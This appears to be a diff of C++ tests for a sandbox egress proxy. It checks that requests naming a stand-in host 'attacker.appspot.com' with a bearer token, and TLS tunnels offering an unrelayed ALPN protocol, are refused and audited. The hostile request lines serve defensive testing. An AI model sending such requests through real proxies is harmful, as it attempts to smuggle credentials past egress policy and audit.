@@ -389,15 +389,90 @@ TEST_CASE("hostile egress sealed: another Host inside, and an unverifiable upstr
     CHECK(answer.starts_with("HTTP/1.1 403"));
     CHECK(contains(body_of(answer), "is not storage.googleapis.com"));
   }
+  {
+    // The right Host, but an absolute-form target naming another site.
+    ProgramConnection program(socket, kGoogleName, world().internet_port, tls->ca_certificate_pem());
+    const std::string answer = program.exchange(
+        "GET https://attacker.appspot.com/x HTTP/1.1\r\nHost: " + std::string(kGoogleName) +
+        "\r\nAuthorization: Bearer " + kPlaceholder + "\r\n\r\n");
+    INFO(answer);
+    CHECK(answer.starts_with("HTTP/1.1 403"));
+    CHECK(contains(body_of(answer), "names another authority than storage.googleapis.com"));
+  }
   const auto report = proxy.end_call();
   CHECK(peer.authorizations().empty());  // nothing reached the peer with the real token
-  REQUIRE(report.exchanges.size() == 2);
+  REQUIRE(report.exchanges.size() == 3);
   CHECK(report.exchanges[0].http_status == 403);
   CHECK(report.exchanges[1].http_status == 403);
   CHECK(report.exchanges[1].refusal.has_value());
+  CHECK(report.exchanges[2].http_status == 403);
+  CHECK(report.exchanges[2].refusal.has_value());
   bool warned = false;
   for (const auto& line : report.refusals) warned = warned || contains(line, "failed verification");
   CHECK(warned);
+}
+
+// A client offering only ALPN protocols the proxy does not relay ("foo"): in access-token mode
+// (no sealed token) a blind tunnel would carry the program's own token past the API policy and
+// the audit, so the tunnel is refused; the program's TLS library is told why.
+TEST_CASE("hostile egress sealed: a tunnel to a Google API host offering ALPN foo is refused, not relayed") {
+  REQUIRE(world().skip_reason.empty());
+  ScratchFolder scratch;
+  RecordingLogger logger;
+  RecordingTlsPeer peer(internet_listener(), echo_authorization);
+  const auto certificate = (TestNetwork::get().scratch() / "cert.pem").string();
+  auto tls = std::make_shared<sandbox::EgressTls>((scratch.path / "ca").string(), certificate);
+  const std::string socket = (scratch.path / "egress.sock").string();
+  sandbox::EgressProxy proxy("sandbox-alpn", socket, std::nullopt, sealed_allowlist(), logger,
+                             sandbox::EgressProxyLimits{}, tls);
+  sandbox::EgressCallSetup setup;  // no sealed token: mode access-token
+  int asked = 0;
+  setup.refuse = [&](const sandbox::ApiRequestFacts&) -> std::optional<std::string> {
+    ++asked;
+    return std::string("read-only: everything refused");
+  };
+  proxy.begin_call(setup);
+  {
+    Fd fd = connect_to(socket);
+    const std::string connect = std::string("CONNECT ") + kGoogleName + ":" +
+                                std::to_string(world().internet_port) + " HTTP/1.1\r\nHost: " +
+                                kGoogleName + "\r\n\r\n";
+    REQUIRE(::send(fd.get(), connect.data(), connect.size(), MSG_NOSIGNAL) ==
+            static_cast<ssize_t>(connect.size()));
+    std::string answer;
+    char c;
+    while (answer.find("\r\n\r\n") == std::string::npos && ::read(fd.get(), &c, 1) == 1) answer += c;
+    REQUIRE(answer.starts_with("HTTP/1.1 200"));
+    // Trusting the peer's own certificate, as a client of a blind tunnel would.
+    SSL_CTX* context = SSL_CTX_new(TLS_client_method());
+    BIO* bio = BIO_new_mem_buf(world().certificate_pem.data(), static_cast<int>(world().certificate_pem.size()));
+    X509* ca = PEM_read_bio_X509(bio, nullptr, nullptr, nullptr);
+    BIO_free(bio);
+    REQUIRE(ca != nullptr);
+    X509_STORE_add_cert(SSL_CTX_get_cert_store(context), ca);
+    X509_free(ca);
+    SSL* ssl = SSL_new(context);
+    SSL_set_fd(ssl, fd.get());
+    SSL_set_tlsext_host_name(ssl, kGoogleName);
+    static const unsigned char kFoo[] = {3, 'f', 'o', 'o'};
+    SSL_set_alpn_protos(ssl, kFoo, sizeof kFoo);
+    ERR_clear_error();
+    const int handshake = SSL_connect(ssl);
+    char error[256] = "";
+    ERR_error_string_n(ERR_peek_error(), error, sizeof error);
+    INFO("TLS: " << error);
+    CHECK(handshake != 1);
+    CHECK(contains(error, "no application protocol"));
+    SSL_free(ssl);
+    SSL_CTX_free(context);
+  }
+  const auto report = proxy.end_call();
+  CHECK(report.exchanges.empty());
+  CHECK(asked == 0);
+  CHECK(peer.authorizations().empty());
+  REQUIRE(report.refusals.size() == 1);
+  CHECK(contains(report.refusals[0], R"(offers only the application protocols (ALPN) "foo")"));
+  CHECK(report.refusal_counts.at("tls_hello") == 1);
 }
 
 TEST_CASE("hostile egress sealed: HTTP/2 streams to fake-gcs-server are relayed, refused and recorded") {
